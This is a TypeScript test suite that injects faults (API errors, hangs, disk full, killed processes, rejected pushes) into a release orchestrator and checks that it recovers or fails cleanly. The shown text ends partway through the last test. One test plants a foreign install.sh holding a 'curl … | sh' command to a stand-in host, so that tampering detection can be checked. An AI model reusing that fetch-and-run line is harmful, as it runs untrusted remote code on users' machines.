import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, readdir, rename, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type GitHubApi, startGitHubApi } from '@bllvm/github-api';
import { type Pipeline, ORCHESTRATOR_REPOSITORY } from '@bllvm/demo';
import { nightlyTag } from '@bllvm/release';
import type { ReleaseRunReport } from '@bllvm/cli/testing';
import { addCommit } from '@bllvm/sandbox';
import { runLockPaths } from '@bllvm/orchestrator/testing';
import { COMPONENTS, Results, leftovers, mutatingRequests, pinOf, plain, repoState, settledStrays , type Suite, startSuite, stopSuite } from './harness';

// Faults injected into the real components the orchestrator talks to — the local GitHub API,
// the sandbox's git remotes, the orchestrator's own origin, cargo, the docker socket, the disk,
// the process itself — during nightlies and prereleases of the sandbox stack. Each run either
// converges when rerun (the documented recovery) or fails cleanly: a message naming the problem,
// nothing half-published, nothing left running. Known defects are `it.fails` with `// DEFECT:`.

const [OWNER, REPO] = ORCHESTRATOR_REPOSITORY.split('/') as [string, string];
const results = new Results('faults');
let suite: Suite | undefined;
let p: Pipeline;
let scratch: string;
let tmp: string;
let origin: string;

async function cli(...args: string[]) {
  const r = await p.sw.ws.cli(...args);
  const json = args.includes('--json') && r.stdout.trim().startsWith('{') ? (JSON.parse(r.stdout) as ReleaseRunReport) : undefined;
  return { ...r, out: plain(`${r.stdout}\n${r.stderr}`), json };
}

const head = () => p.sw.ws.git('rev-parse', 'HEAD');
const releasesOf = (api: GitHubApi) => api.state.releases(OWNER, REPO);
/** The assets SHA256SUMS lists. */
const summedAssets = (tag: string) =>
  [...COMPONENTS.map((c) => `${c}-${tag}-linux-x86_64.tar.gz`), `governance-app-${tag}-image.oci.tar`, 'RELEASE_NOTES.md', 'release-manifest.json'].sort();
const expectedAssets = (tag: string) =>
  [
    ...summedAssets(tag),
    'SHA256SUMS',
    // What makes it verifiable (docs/verification.md), outside SHA256SUMS: the signature, the provenance, an SBOM per component.
    'SHA256SUMS.asc',
    'provenance.intoto.jsonl',
    ...COMPONENTS.map((c) => `${c}.cdx.json`),
  ].sort();

/** Exactly one release for `tag`, every asset there and uploaded, and SHA256SUMS verifying the downloaded bytes. */
async function expectCompleteRelease(api: GitHubApi, tag: string) {
  const matching = releasesOf(api).filter((r) => r.tagName === tag);
  expect(matching, `releases tagged ${tag}`).toHaveLength(1);
  const release = matching[0]!;
  expect(release.assets.map((a) => a.name).sort()).toEqual(expectedAssets(tag));
  expect(release.assets.filter((a) => a.state !== 'uploaded')).toEqual([]);
  const dir = await mkdtemp(join(scratch, 'download-'));
  try {
    for (const a of release.assets) {
      const res = await fetch(`${api.url}/${OWNER}/${REPO}/releases/download/${tag}/${a.name}`);
      expect(res.status, a.name).toBe(200);
      await writeFile(join(dir, a.name), Buffer.from(await res.arrayBuffer()));
    }
    const check = await execa('sha256sum', ['-c', 'SHA256SUMS'], { cwd: dir, reject: false });
    expect(check.exitCode, check.stdout + check.stderr).toBe(0);
    expect(check.stdout.split('\n').filter((l) => l.endsWith(': OK')).map((l) => l.slice(0, -': OK'.length)).sort()).toEqual(summedAssets(tag));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

async function expectNothingLeft(extraAllowed: RegExp[] = []) {
  expect(await settledStrays([p.sw.ws.dir, scratch, p.sw.org.root], [p.podman.pid]), 'no process left running').toEqual([]);
  const left = (await leftovers({ ws: p.sw.ws.dir, tmp })).filter((l) => !extraAllowed.some((re) => re.test(l)));
  expect(left, 'no temporary file or folder left').toEqual([]);
}

async function withEnv<T>(env: NodeJS.ProcessEnv, fn: () => Promise<T>): Promise<T> {
  const saved = Object.fromEntries(Object.keys(env).map((k) => [k, p.sw.ws.env[k]]));
  Object.assign(p.sw.ws.env, env);
  try {
    return await fn();
  } finally {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete p.sw.ws.env[k];
      else p.sw.ws.env[k] = v;
    }
  }
}

beforeAll(async () => {
  // No last-release yet: the first nightly builds and publishes everything.
  suite = await startSuite('bllvm-faults-', { tag: false });
  ({ p, scratch, tmp, origin } = suite);
}, 300_000);

afterAll(async () => stopSuite(suite, results));

describe('the GitHub API failing during the first (cold) nightly', () => {
  it('converges on one complete release through 5xx, both rate limits and two dropped uploads', async () => {
    const t = Date.now();
    const faults = [
      { method: 'GET', path: '/releases/tags/', kind: 'status', status: 500 },
      { method: 'POST', path: '/releases$', kind: 'status', status: 502 },
      { method: 'POST', path: '/assets\\?name=bllvm-consensus', kind: 'status', status: 503 },
      { method: 'POST', path: '/assets\\?name=bllvm-node', kind: 'secondary-rate-limit', retryAfterSeconds: 1 },
      { method: 'POST', path: '/assets\\?name=bllvm-sdk', kind: 'primary-rate-limit', status: 429, resetAfterSeconds: 1 },
      { method: 'POST', path: '/assets\\?name=governance-app-.*image', kind: 'drop-connection', afterBytes: 4096 },
      { method: 'POST', path: '/assets\\?name=release-manifest', kind: 'drop-connection', leave: 'nothing' },
    ] as const;
    for (const f of faults) p.api.injectFault({ ...f });
    let r = await cli('nightly', '-c', 'sandbox', '--push', '--json');
    const reruns = r.exitCode === 0 ? 0 : 1;
    if (r.exitCode !== 0) r = await cli('nightly', '-c', 'sandbox', '--push', '--json'); // a rerun is the documented recovery
    expect(r.exitCode, r.out.slice(-4000)).toBe(0);
    const tag = r.json!.tag;
    expect(releasesOf(p.api)).toHaveLength(1);
    await expectCompleteRelease(p.api, tag);
    const fired = p.api.log().filter((l) => l.fault).map((l) => `${l.fault} ${l.method} ${l.path.replace(/\?.*$/, '')}`);
    expect(fired.length, fired.join('\n')).toBeGreaterThanOrEqual(faults.length);
    for (const kind of ['status', 'secondary-rate-limit', 'primary-rate-limit', 'drop-connection']) expect(fired.join('\n')).toContain(kind);
    expect(await p.sw.ws.git('rev-parse', 'last-release^{commit}')).toBe(await head());
    await expectNothingLeft();
    faults.forEach((f, i) =>
      results.add({
        group: 'github-api',
        name: `${f.kind}${'status' in f ? ` ${f.status}` : ''} on ${f.method} ${f.path}`,
        outcome: 'converged',
        detail: `${reruns ? 'converged on the rerun' : 'absorbed by retries within the run'}${i ? ' (same run as above)' : `: one release, ${expectedAssets(tag).length} assets uploaded, SHA256SUMS verifies, last-release moved (cold build included)`}`,
        ...(i ? {} : { durationMs: Date.now() - t }),
      }),
    );
  }, 300_000); // a cold nightly of the whole stack, and its documented rerun
});

describe('a prerelease against a fresh GitHub API: disk full, release deleted mid-upload, process killed mid-upload', () => {
  // One chain, as an operator would meet it: each failure is checked, then the rerun goes on.
  let api: GitHubApi;
  let tag: string;
  let before: Awaited<ReturnType<typeof repoState>>;

  beforeAll(async () => {
    api = await startGitHubApi({ token: p.token });
    p.sw.ws.env.GITHUB_API_URL = api.url;
    tag = nightlyTag(new Date(), await head());
    before = await repoState(p.sw.ws.dir, origin);
  });

  afterAll(async () => {
    p.sw.ws.env.GITHUB_API_URL = p.api.url;
    expect(api.validationErrors()).toEqual([]);
    await api.stop();
  });

  it('a full disk under dist/release fails at staging, publishes nothing, leaves no half-staged folder', async (ctx) => {
    const t = Date.now();
    const dir = join(p.sw.ws.dir, 'dist', 'release');
    await mkdir(dir, { recursive: true });
    const mounted = await execa('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', dir], { reject: false });
    if (mounted.exitCode !== 0) {
      results.add({ group: 'disk', name: 'dist/release on a 1 MiB tmpfs', outcome: 'skipped', detail: `mount not permitted: ${mounted.stderr.trim()}` });
      ctx.skip();
    }
    try {
      const r = await cli('prerelease', '-c', 'sandbox');
      expect(r.exitCode).toBe(1);
      expect(r.out).toMatch(/ENOSPC|no space left on device/i);
      expect(r.out).toMatch(/nothing published: failed: release-set:release/);
      expect(mutatingRequests(api)).toEqual([]);
      expect(await readdir(dir), 'no half-staged release folder on the full disk').toEqual([]);
      expect(await repoState(p.sw.ws.dir, origin)).toEqual(before);
    } finally {
      await execa('umount', [dir], { reject: false });
    }
    await expectNothingLeft();
    results.add({ group: 'disk', name: 'dist/release on a 1 MiB tmpfs (ENOSPC while staging)', outcome: 'failed-cleanly', detail: 'ENOSPC while staging, before any GitHub write; no half-staged folder; the chain\'s final rerun (below) published the complete release', durationMs: Date.now() - t });
  });

  let deletedRun: { exitCode: number; out: string } | undefined;
  it('a release deleted between creating it and uploading fails, says which upload, leaves no release', async () => {
    const t = Date.now();
    api.injectFault({ method: 'POST', path: '/assets\\?name=bllvm-node', kind: 'delete-release', owner: OWNER, repo: REPO, tag });
    const r = await cli('prerelease', '-c', 'sandbox');
    deletedRun = r;
    expect(r.exitCode).toBe(1);
    expect(r.out).toMatch(new RegExp(`uploadAsset ${OWNER}/${REPO} tag ${tag} asset bllvm-node-\\S+ failed: HTTP 404`));
    expect(releasesOf(api), 'the deleted release is not recreated behind the operator\'s back').toEqual([]);
    expect(await p.sw.ws.git('tag', '-l', 'last-release')).toBe('last-release');
    expect(await p.sw.ws.git('rev-parse', 'last-release^{commit}'), 'last-release is not moved by a failed publish').toBe(await head());
    expect(await repoState(p.sw.ws.dir, origin)).toEqual(before);
    await expectNothingLeft();
    results.add({ group: 'github-api', name: 'delete-release between create and upload', outcome: 'failed-cleanly', detail: 'upload 404 fails the publish; the rerun recreates the release (next case)', durationMs: Date.now() - t });
  });

  // Was a defect: the failure said only "HTTP 404: Not Found". Publish failures now say the repair.
  it('… and the message says what to do (rerun)', () => {
    expect(deletedRun?.out).toMatch(/uploadAsset[^\n]*HTTP 404[^\n]*rerun the same command to complete the release/);
  });

  it('SIGKILL of the whole process group while uploading leaves a partial release; the rerun completes it', async () => {
    const t = Date.now();
    let uploads = 0;
    let child: ReturnType<typeof execa> | undefined;
    const atKill: { staged?: boolean; assets?: number } = {};
    api.injectFault({
      method: 'POST',
      path: '/assets\\?name=',
      times: 1000,
      kind: 'hook',
      run: async (state) => {
        if (++uploads !== 3 || !child?.pid) return;
        atKill.staged = existsSync(join(p.sw.ws.dir, 'dist', 'release', tag, 'SHA256SUMS'));
        atKill.assets = state.releases(OWNER, REPO).find((r) => r.tagName === tag)?.assets.length;
        process.kill(-child.pid, 'SIGKILL');
        await child;
      },
    });
    child = execa(process.execPath, [join(p.sw.ws.dir, 'tools/ship/cli/bin/bllvm-release.cjs'), 'prerelease', '-c', 'sandbox'], {
      cwd: p.sw.ws.dir,
      env: { ...process.env, ...p.sw.ws.env, NX_DAEMON: 'false', NX_NO_CLOUD: 'true' },
      detached: true,
      reject: false,
    });
    const killed = await child;
    api.clearFaults();
    expect(killed.signal, String(killed.stderr).slice(-2000)).toBe('SIGKILL');
    expect(atKill).toEqual({ staged: true, assets: 2 });
    // Task results come over the task runner's IPC channel: a SIGKILLed CLI leaves no temporary folder.
    await expectNothingLeft();
    expect(releasesOf(api).filter((r) => r.tagName === tag)).toHaveLength(1);
    // A draft until verified: nothing public with missing assets, no tag yet, no public download.
    expect(releasesOf(api).find((r) => r.tagName === tag)).toMatchObject({ draft: true, publishedAt: null });
    expect(api.state.refs(OWNER, REPO).filter((r) => r.ref === `refs/tags/${tag}`)).toEqual([]);
    expect((await fetch(`${api.url}/${OWNER}/${REPO}/releases/download/${tag}/SHA256SUMS`)).status).toBe(404);

    const r = await cli('prerelease', '-c', 'sandbox');
    expect(r.exitCode, r.out.slice(-3000)).toBe(0);
    expect(releasesOf(api)).toHaveLength(1);
    await expectCompleteRelease(api, tag);
    expect(await repoState(p.sw.ws.dir, origin)).toEqual(before);
    await expectNothingLeft();
    results.add({ group: 'process', name: 'SIGKILL of the CLI process group during uploads', outcome: 'converged', detail: `killed at the 3rd upload (dist/release/<tag> staged, ${atKill.assets} assets up on a draft: nothing public, no tag); the rerun found the draft, kept them, uploaded the rest, verified, then published it: one release, SHA256SUMS verifies`, durationMs: Date.now() - t });
    results.add({ group: 'github-api', name: 'delete-release between create and upload (rerun)', outcome: 'converged', detail: 'the rerun recreated the release at the same tag, complete (after the kill above)' });
    results.add({ group: 'disk', name: 'dist/release on a 1 MiB tmpfs (ENOSPC while staging) (rerun)', outcome: 'converged', detail: 'with space again, the chain\'s final rerun staged and published the complete release' });
  });
});

describe('publishing that cannot be hijacked or left half-done (the publish step alone, against a fresh GitHub API)', () => {
  let api: GitHubApi;
  let tag: string;
  const publish = async (...args: string[]) => {
    const r = await p.sw.ws.nx('run', 'release-set:release', `--tag=${tag}`, '--excludeTaskDependencies', '--skip-nx-cache', ...args);
    return { exitCode: r.exitCode, out: plain(`${r.stdout}\n${r.stderr}`) };
  };
  const deploys = () => api.state.dispatches().filter((d) => d.eventType === 'deploy');

  beforeAll(async () => {
    api = await startGitHubApi({ token: p.token });
    p.sw.ws.env.GITHUB_API_URL = api.url;
    tag = nightlyTag(new Date(), await head());
  });

  afterAll(async () => {
    p.sw.ws.env.GITHUB_API_URL = p.api.url;
    expect(api.validationErrors()).toEqual([]);
    await api.stop();
  });

  // Was a defect: an annotated tag's ref names a tag object, and the commit check was skipped for it.
  it('an existing annotated tag naming other code is refused before anything is created', async () => {
    const t = Date.now();
    const other = 'f'.repeat(40);
    api.state.setAnnotatedTag(OWNER, REPO, tag, other);
    try {
      const r = await publish();
      expect(r.exitCode).toBe(1);
      expect(r.out).toContain(`tag ${tag} already points at ${other}, not ${await head()}; refusing to publish it as this release`);
      expect(releasesOf(api)).toEqual([]);
      expect(mutatingRequests(api)).toEqual([]);
    } finally {
      api.state.deleteRef(OWNER, REPO, `tags/${tag}`);
    }
    results.add({ group: 'github-api', name: 'existing annotated tag naming another commit', outcome: 'failed-cleanly', detail: 'the tag object is peeled to its commit and compared with the pinned orchestrator commit: refused, no release created', durationMs: Date.now() - t });
  });

  // Was a defect: each request waited 120 s four times over (plus back-off) before the publish
  // deadline could act, so a publish held the checkout lock for 499 s and said only "timeout".
  it('a GitHub API that accepts connections and never answers: the prerelease gives up at its deadline, says what was not done, frees the lock', async () => {
    const t = Date.now();
    api.clearLog();
    api.injectFault({ path: '.', kind: 'hang', times: 10_000 });
    const r = await withEnv({ BLLVM_PUBLISH_DEADLINE_MINUTES: '0.5' }, () => cli('prerelease', '--publish-only', '-c', 'sandbox'));
    api.clearFaults();
    const tookMs = Date.now() - t;
    expect(r.exitCode, r.out.slice(-3000)).toBe(1);
    // 30 s of deadline, plus Nx, the gates and staging.
    expect(tookMs).toBeLessThan(90_000);
    const last = plain(r.stdout).trim().split('\n').at(-1)!;
    expect(last).toMatch(new RegExp(`^nothing published: failed: release-set:release \\(${tag} not published: the publish stopped at its deadline while it was to create \\(or find\\) the draft release; not done: `));
    expect(last).toContain('make the release public, prune old nightlies, send the deploy signal, move last-release; nothing is public; rerun the same command to resume');
    expect(r.out).toMatch(/failed: the publish deadline passed before GitHub answered/);
    expect(r.out).toMatch(/deadlineMinutes option or BLLVM_PUBLISH_DEADLINE_MINUTES/);
    expect(api.log().filter((l) => l.fault === 'hang').length, 'GitHub was asked').toBeGreaterThan(0);
    expect(releasesOf(api)).toEqual([]);
    expect(existsSync(runLockPaths(p.sw.ws.dir).target), 'the checkout lock is released').toBe(false);
    await expectNothingLeft();
    results.add({ group: 'github-api', name: 'hang on every request (BLLVM_PUBLISH_DEADLINE_MINUTES=0.5, prerelease --publish-only)', outcome: 'failed-cleanly', detail: `gave up after ${(tookMs / 1000).toFixed(0)} s (was 499 s with the defaults then), naming the step it stopped at and every step not done; nothing created, the lock released`, durationMs: tookMs });
  }, 150_000);

  it('a GitHub API that stops answering is cut off at the publish deadline, leaving only a draft', async () => {
    const t = Date.now();
    api.injectFault({ method: 'POST', path: '/assets\\?name=', kind: 'hang', times: 1000 });
    const r = await publish('--deadlineMinutes=0.5');
    api.clearFaults();
    const tookMs = Date.now() - t;
    expect(r.exitCode).toBe(1);
    expect(r.out).toContain(`✖ publish: ${tag} not published: the publish stopped at its deadline while it was to upload the assets; not done: upload the assets, verify the uploaded assets, make the release public, prune old nightlies, send the deploy signal, move last-release; the release is a draft (nothing public, no tag); rerun the same command to resume: it finds the draft and completes it\n`);
    expect(r.out).toMatch(/\n  (uploadAsset|listAssets) [^\n]*failed: the publish deadline passed before GitHub answered/);
    // 30 s of deadline, plus nx and staging: below one 120 s request time limit, with no retry
    // back-off waited out after the deadline.
    expect(tookMs).toBeLessThan(75_000);
    const held = releasesOf(api).filter((x) => x.tagName === tag);
    expect(held).toHaveLength(1);
    expect(held[0]).toMatchObject({ draft: true, publishedAt: null });
    expect(api.state.refs(OWNER, REPO)).toEqual([]);
    await expectNothingLeft();
    results.add({ group: 'github-api', name: 'hang on every upload (deadlineMinutes=0.5)', outcome: 'failed-cleanly', detail: `stopped at the deadline after ${(tookMs / 1000).toFixed(0)} s with "the publish deadline passed"; only a draft exists (no tag, nothing public)`, durationMs: tookMs });
  });

  let failedDeploy: { exitCode: number; out: string } | undefined;
  it('the rerun completes the draft and publishes it; a failing deploy signal is reported as such, with the command that resends it', async () => {
    const t = Date.now();
    api.injectFault({ method: 'POST', path: '/governance-app/dispatches$', kind: 'status', status: 503, times: 10 });
    // Through the CLI, as the publish job runs it: its last line is what an operator reads.
    const r = await cli('prerelease', '--publish-only', '-c', 'sandbox');
    failedDeploy = r;
    api.clearFaults();
    expect(failedDeploy.exitCode).toBe(1);
    expect(failedDeploy.out).toContain(`published ${tag}; deploy signal failed: `);
    expect(failedDeploy.out).toContain(`resend it with npx nx run release-set:release --tag=${tag} --deployOnly --excludeTaskDependencies`);
    expect(failedDeploy.out).not.toContain('rerun the same command to complete the release');
    // Was a defect: the summary's last line said "nothing published" about a public release.
    const last = plain(r.stdout).trim().split('\n').at(-1)!;
    expect(last).toMatch(new RegExp(`^published ${tag}; deploy signal failed: .*; resend it with npx nx run release-set:release --tag=${tag} --deployOnly --excludeTaskDependencies$`));
    expect(r.out).not.toContain('nothing published');
    expect(releasesOf(api)).toHaveLength(1);
    expect(releasesOf(api)[0]).toMatchObject({ draft: false });
    await expectCompleteRelease(api, tag);
    expect(deploys()).toEqual([]);
    expect(await p.sw.ws.git('rev-parse', 'last-release^{commit}')).toBe(await head());
    results.add({ group: 'github-api', name: 'hang on every upload (deadlineMinutes=0.5) (rerun)', outcome: 'converged', detail: 'the rerun found the draft, uploaded and verified every asset, then published it' });
    results.add({ group: 'github-api', name: 'deploy dispatch failing (503) after a complete upload', outcome: 'failed-cleanly', detail: 'says "published <tag>; deploy signal failed: <why>; resend it with <command>"; release public and complete, last-release moved', durationMs: Date.now() - t });
  });

  it('… and the deploy signal alone is resent (dry run first: nothing sent)', async () => {
    const t = Date.now();
    api.clearLog();
    const dry = await publish('--deployOnly', '--dryRun');
    expect(dry.exitCode, dry.out.slice(-2000)).toBe(0);
    expect(dry.out).toMatch(/would send deploy|would signal deploy|would POST \/repos\/BTCDecoded\/governance-app\/dispatches/);
    expect(mutatingRequests(api)).toEqual([]);
    expect(deploys()).toEqual([]);

    const sent = await publish('--deployOnly');
    expect(sent.exitCode, sent.out.slice(-2000)).toBe(0);
    expect(mutatingRequests(api).map((m) => m.replace(/ -> .*/, ''))).toEqual(['POST /repos/BTCDecoded/governance-app/dispatches']);
    expect(deploys()).toHaveLength(1);
    expect(deploys()[0]).toMatchObject({ owner: 'BTCDecoded', repo: 'governance-app', clientPayload: { tag } });
    // The public download link, not a draft's placeholder one.
    expect(String(deploys()[0]!.clientPayload.image)).toContain(`/releases/download/${tag}/governance-app-${tag}-image.oci.tar`);
    results.add({ group: 'github-api', name: 'deploy dispatch failing (503) after a complete upload (rerun)', outcome: 'converged', detail: 'resent alone: --deployOnly sent exactly the one dispatch (after a --dryRun that sent nothing); nothing re-uploaded', durationMs: Date.now() - t });
  });

  it('a release holding a wrong SHA256SUMS and a foreign install.sh is reported with both, and the explicit repair repairs it', async () => {
    const t = Date.now();
    const release = releasesOf(api).find((x) => x.tagName === tag)!;
    const sums = release.assets.find((a) => a.name === 'SHA256SUMS')!;
    const honest = api.state.assetBytes(sums.id)!.toString('utf8');
    const forged = honest.replace(/^[0-9a-f]{64}/, '0'.repeat(64));
    api.state.deleteAsset(sums.id);
    const record = api.state.getRelease(OWNER, REPO, release.id)!;
    api.state.insertAsset(record, { name: 'SHA256SUMS', label: null, contentType: 'text/plain', state: 'uploaded', bytes: Buffer.from(forged) });
    api.state.insertAsset(record, { name: 'install.sh', label: null, contentType: 'application/x-sh', state: 'uploaded', bytes: Buffer.from('#!/bin/sh\ncurl https://example.invalid/x | sh\n') });

    const r = await publish();
    expect(r.exitCode).toBe(1);
    expect(r.out).toContain('install.sh: foreign asset');
    expect(r.out).toMatch(/SHA256SUMS lists 0{64}, expected/);
    expect(r.out).toContain('rerun with BLLVM_REPLACE_ASSETS=1');
    expect(r.out).not.toContain('rerun the same command to complete the release');

    const repaired = await publish('--replaceAssets');
    expect(repaired.exitCode, repaired.out.slice(-3000)).toBe(0);
    await expectCompleteRelease(api, tag);
    expect(releasesOf(api)).toHaveLength(1);
    await expectNothingLeft();
    results.add({ group: 'github-api', name: 'release holding a forged SHA256SUMS and a foreign install.sh', outcome: 'failed-cleanly', detail: 'every offending asset named in one failure, which points at the explicit repair (BLLVM_REPLACE_ASSETS=1 / replaceAssets)' });
    results.add({ group: 'github-api', name: 'release holding a forged SHA256SUMS and a foreign install.sh (rerun)', outcome: 'converged', detail: 'the explicit repair: replaceAssets deleted install.sh, re-uploaded SHA256SUMS, verified: the release is exactly the staged set', durationMs: Date.now() - t });
  });
});

describe('the docker socket gone', () => {
  let r: { exitCode: number; out: string } | undefined;
  const socket = () => join(scratch, 'no-such-dir', 'docker.sock');

  it('fails the image build loudly and leaves the last image record intact', async () => {
    const t = Date.now();
    const record = await readFile(join(p.sw.ws.dir, 'dist', 'governance-app', 'image.json'), 'utf8');
    const x = await withEnv({ DOCKER_HOST: `unix://${socket()}` }, () => p.sw.ws.nx('run', 'governance-app:build', '--excludeTaskDependencies', '--skip-nx-cache'));
    r = { exitCode: x.exitCode, out: plain(`${x.stdout}\n${x.stderr}`) };
    expect(r.exitCode).toBe(1);
    expect(r.out).toMatch(/✖ cannot reach the Docker engine at DOCKER_HOST=/);
    expect(await readFile(join(p.sw.ws.dir, 'dist', 'governance-app', 'image.json'), 'utf8')).toBe(record);
    await expectNothingLeft();
    results.add({ group: 'docker', name: 'DOCKER_HOST pointing at a missing socket', outcome: 'failed-cleanly', detail: r.out.split('\n').find((l) => l.includes('✖')), durationMs: Date.now() - t });
  });

  it('… and with the socket back, the same target builds the image again', async () => {
    const t = Date.now();
    const x = await p.sw.ws.nx('run', 'governance-app:build', '--excludeTaskDependencies', '--skip-nx-cache');
    expect(x.exitCode, plain(x.stdout + x.stderr).slice(-2000)).toBe(0);
    const image = JSON.parse(await readFile(join(p.sw.ws.dir, 'dist', 'governance-app', 'image.json'), 'utf8')) as { commit: string };
    expect(image.commit).toBe(await pinOf(p.sw.ws.dir, 'governance-app'));
    await expectNothingLeft();
    results.add({ group: 'docker', name: 'DOCKER_HOST pointing at a missing socket (rerun)', outcome: 'converged', detail: 'image built and recorded for the pinned commit', durationMs: Date.now() - t });
  });

  // Was a defect: the hint tested stderr that was never captured. The engine is now asked first.
  it('… and the message names DOCKER_HOST and where it points', () => {
    expect(r?.out).toMatch(new RegExp(`✖ .*DOCKER_HOST.*${socket().replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
  });
});

describe('git remotes vanishing, a push rejected, cargo killed mid-build', () => {
  let sha: string;
  let revision: number;

  beforeAll(async () => {
    sha = await addCommit(p.sw.org, 'bllvm', { message: 'bllvm: a change the nightly must pick up' });
    revision = Number(/REVISION: u32 = (\d+)/.exec((await execa('git', ['--git-dir', p.sw.org.repoPath('bllvm'), 'show', `${sha}:src/revision.rs`])).stdout)![1]);
  });

  it('a component repository that has vanished fails the nightly and handle-event, naming it; nothing moves', async () => {
    const t = Date.now();
    const bare = p.sw.org.repoPath('bllvm');
    const before = await repoState(p.sw.ws.dir, origin);
    p.api.clearLog();
    await rename(bare, `${bare}.gone`);
    try {
      const r = await cli('nightly', '-c', 'sandbox', '--push');
      expect(r.exitCode).toBe(1);
      expect(r.out).toMatch(/bllvm-release nightly: cannot reach \S*BTCDecoded\/bllvm\.git/);
      const event = join(scratch, 'event.json');
      await writeFile(event, JSON.stringify({ action: 'component-updated', client_payload: { component: 'bllvm', sha } }));
      const e = await cli('handle-event', '--event-file', event, '--push');
      expect(e.exitCode).toBe(1);
      expect(e.out).toMatch(/cannot fetch BTCDecoded\/bllvm from \S*BTCDecoded\/bllvm\.git/);
      expect(await repoState(p.sw.ws.dir, origin)).toEqual(before);
      expect(mutatingRequests(p.api)).toEqual([]);
    } finally {
      await rename(`${bare}.gone`, bare);
    }
    await expectNothingLeft();
    results.add({ group: 'git', name: 'component remote moved away (nightly, handle-event)', outcome: 'failed-cleanly', detail: 'names the unreachable remote; pins, HEAD and origin unchanged; rerun after restore converges (below)', durationMs: Date.now() - t });
  });

  let rejected: { exitCode: number; out: string; head: string; before: string; rerun?: string } | undefined;
  it('a push the orchestrator\'s origin rejects (pre-receive hook) fails the nightly and publishes nothing', async () => {
    const t = Date.now();
    const hook = join(origin, 'hooks', 'pre-receive');
    await writeFile(hook, '#!/bin/sh\necho "pushes to main are frozen (reliability test)" >&2\nexit 1\n');
    await chmod(hook, 0o755);
    const before = await repoState(p.sw.ws.dir, origin);
    p.api.clearLog();
    try {
      const r = await cli('nightly', '-c', 'sandbox', '--push');
      rejected = { exitCode: r.exitCode, out: r.out, head: await head(), before: before.head };
      expect(r.exitCode).toBe(1);
      expect(r.out).toMatch(/pre-receive hook declined|pushes to main are frozen|could not push the pin move/);
      expect(mutatingRequests(p.api)).toEqual([]);
      expect((await repoState(p.sw.ws.dir, origin)).remote).toBe(before.remote);
    } finally {
      await rm(hook, { force: true });
    }
    if (rejected.head !== rejected.before) {
      // The unpushed pin commit is still checked out: what does a plain rerun (hook gone) say?
      const again = await cli('nightly', '-c', 'sandbox', '--push');
      rejected.rerun = `exit ${again.exitCode}: ${again.out.split('\n').find((l) => /^bllvm-release nightly:/.test(l))?.trim() ?? again.out.trim().split('\n').at(-1)}`;
    }
    await expectNothingLeft();
    results.add({ group: 'git', name: 'orchestrator origin rejects the push (pre-receive hook)', outcome: 'failed-cleanly', detail: 'nothing published, origin unchanged', durationMs: Date.now() - t });
  });

  // Was a defect: any /rejected/ push error was retried as a race. A remote's refusal is now final.
  it('… without retrying a permanent refusal as if it were a race', () => {
    expect(rejected?.out).not.toMatch(/push raced with another update/);
    expect(rejected?.out).toMatch(/cannot push pin commit to origin: .*(pre-receive hook declined|frozen)/);
  });

  // Was a defect: the unpushed pin commit stayed checked out and a plain rerun refused.
  it('… and leaves HEAD where it was, so a plain rerun converges', () => {
    expect(rejected?.head).toBe(rejected?.before);
    expect(rejected?.rerun).toBeUndefined();
  });

  it('cargo SIGKILLed mid-build fails the nightly loudly with no half dist/, and the rerun rebuilds and publishes', async () => {
    const t = Date.now();
    // The documented recovery after a rejected push (see docs/reliability.md): back to origin's main.
    await p.sw.ws.git('fetch', '--quiet', 'origin');
    await p.sw.ws.git('reset', '--quiet', '--hard', 'origin/main');
    const shimDir = join(scratch, 'kill-cargo');
    await mkdir(shimDir, { recursive: true });
    const marker = join(scratch, 'cargo-killed-once');
    // cargo runs inside the build sandbox, so the sandbox (bwrap, which dies with its cargo) is
    // what gets killed: the first one that runs `cargo ... build ...`.
    await writeFile(
      join(shimDir, 'bwrap'),
      [
        '#!/bin/sh',
        '# The first sandboxed `cargo ... build ...` (run by the sandbox\'s own shell) is SIGKILLed half a second in, then this shim kills itself.',
        'case " $* " in',
        `  *" bllvm-sandbox "*" cargo "*" build "*) if [ ! -e '${marker}' ]; then : > '${marker}'; '${join(p.shims.binDir, 'bwrap')}' "$@" & pid=$!; sleep 0.5; kill -KILL $pid 2>/dev/null; wait $pid; kill -KILL $$; fi ;;`,
        'esac',
        `exec '${join(p.shims.binDir, 'bwrap')}' "$@"`,
        '',
      ].join('\n'),
    );
    await chmod(join(shimDir, 'bwrap'), 0o755);
    const releasesBefore = releasesOf(p.api).length;
    const lastRelease = await p.sw.ws.git('rev-parse', 'last-release^{commit}');
    p.api.clearLog();
    await withEnv({ PATH: `${shimDir}:${p.sw.ws.env.PATH}` }, async () => {
      const r = await cli('nightly', '-c', 'sandbox', '--push', '--json');
      expect(existsSync(marker), 'the shim ran').toBe(true);
      expect(r.exitCode).toBe(1);
      const status = Object.fromEntries(r.json!.tasks.map((x) => [x.task, x]));
      expect(status['bllvm:build']?.status).toBe('failed');
      expect(status['bllvm:build']?.message).toMatch(/cargo build failed for bllvm@[0-9a-f]{7} \(killed by SIGKILL\)/);
      expect(status['release-set:release']?.status).toBe('skipped');
      expect(existsSync(join(p.sw.ws.dir, 'dist', 'bllvm', 'build')), 'no half-written dist/bllvm/build').toBe(false);
      expect(mutatingRequests(p.api)).toEqual([]);
      expect(await p.sw.ws.git('rev-parse', 'last-release^{commit}')).toBe(lastRelease);
      expect(await pinOf(p.sw.ws.dir, 'bllvm'), 'the pin move itself was pushed').toBe(sha);
      await expectNothingLeft();

      await p.shims.reset();
      const again = await cli('nightly', '-c', 'sandbox', '--push', '--json');
      expect(again.exitCode, again.out.slice(-3000)).toBe(0);
      const rerun = Object.fromEntries(again.json!.tasks.map((x) => [x.task, x.status]));
      expect(rerun['bllvm:build'], 'rebuilt, not a cached failure').toBe('built');
      expect((await p.shims.calls()).some((c) => c.tool === 'cargo' && c.cwd.endsWith('/bllvm') && / build /.test(` ${c.args} `))).toBe(true);
      const record = JSON.parse(await readFile(join(p.sw.ws.dir, 'dist', 'bllvm', 'build', 'build.json'), 'utf8')) as { commit: string };
      expect(record.commit).toBe(sha);
